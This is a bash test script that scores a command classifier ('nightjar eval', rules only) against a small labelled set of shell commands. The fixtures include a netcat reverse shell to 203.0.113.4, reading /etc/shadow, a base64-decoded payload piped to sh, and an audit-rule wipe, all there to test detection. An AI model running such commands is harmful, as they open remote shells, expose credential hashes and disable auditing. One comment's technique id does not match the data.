#!/usr/bin/env bash
# test_eval — `nightjar eval` on a small labelled set with the rule pack
# alone (--no-model: no model file needed, every verdict is the rules'), so
# each figure can be worked out by hand: the confusion matrix, accuracy,
# macro-F1, schema validity, the technique scores (labelled id, parent
# technique, none given; renumbered ids compared under their new numbers),
# the table's technique line, and a bad line counted and named, not fatal.
# Prints "N passed, M failed" last.
cd "$(dirname "$0")/../.." || exit 1
BIN=${NJ_BIN:-build/nightjar}
pass=0; fail=0
check() {   # check <what> <condition...>
    local what=$1; shift
    if "$@"; then pass=$((pass + 1)); else echo "FAIL: $what"; fail=$((fail + 1)); fi
}
tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT
# Truth vs the pack (see rules/): a netcat shell and a decoded payload piped
# into a shell are critical rules (malicious, ids T1059.004 / T1140 among
# theirs); reading the shadow file is a high rule whose id is T1003.008
# (the label says T1003: parent only); a listing and `git status` match
# nothing (benign), so the suspicious line is missed; the labelled
# T1562.001 of the log wipe is ATT&CK v19's T1685.004 under the pack's id.
cat > "$tmp/set.jsonl" <<'EOF'
{"cmd": "nc -e /bin/sh 203.0.113.4 9001", "label": "malicious", "technique": "T1059.004"}
{"cmd": "cat /etc/shadow", "label": "malicious", "technique": "T1003"}
{"cmd": "ls -la /srv", "label": "benign", "technique": null}
{"cmd": "base64 -d /tmp/x | sh", "label": "malicious", "technique": "T1140"}
{"cmd": "git status", "label": "suspicious", "technique": "T1082"}
{"cmd": "auditctl -D", "label": "malicious", "technique": "T1562.012"}
{"cmd": "echo hi", "label": "unsure"}
EOF
out=$("$BIN" eval --no-model --data "$tmp/set.jsonl" --json 2>"$tmp/err"); rc=$?
check "eval --json exits 0 (rc=$rc)" [ $rc -eq 0 ]
check "the bad line is named on stderr" grep -q "set.jsonl:7: label must be" "$tmp/err"
python3 - "$out" <<'EOF' || fail=$((fail + 1))
import json, sys
o = json.loads(sys.argv[1])
want = {"n": 6, "bad_lines": 1, "schema_valid": 1.0, "confusion": [[1, 0, 0], [1, 0, 0], [0, 0, 4]]}
bad = [k for k, v in want.items() if o.get(k) != v]
# accuracy 5/6; F1: benign 2/3 (p 1/2, r 1), suspicious 0, malicious 1
if abs(o["accuracy"] - 5 / 6) > 1e-5: bad.append("accuracy")
if abs(o["macro_f1"] - (2 / 3 + 0 + 1) / 3) > 1e-5: bad.append("macro_f1")
t = o.get("techniques", {})
# 4 lines labelled with an id and judged not benign: exact 3 (netcat,
# base64, the renumbered log wipe), parent 4, none 0
if t.get("n") != 4 or abs(t["exact"] - 0.75) > 1e-5 or abs(t["parent"] - 1.0) > 1e-5 or t["none"] != 0:
    bad.append("techniques %r" % t)
if bad:
    print("FAIL: eval --json figures:", bad, o)
    sys.exit(1)
EOF
[ $? -eq 0 ] && pass=$((pass + 1))
table=$("$BIN" eval --no-model --data "$tmp/set.jsonl" 2>/dev/null)
check "the table's technique line" grep -q "on the 4 lines labelled with one .*: the labelled id 75.0%, its parent technique 100.0%, none given 0.0%" <<<"$table"
check "the table's summary line" grep -q "^n 6, accuracy 0.833, macro-F1 0.556, schema valid 100.0%" <<<"$table"
echo "$pass passed, $fail failed"
[ $fail -eq 0 ]
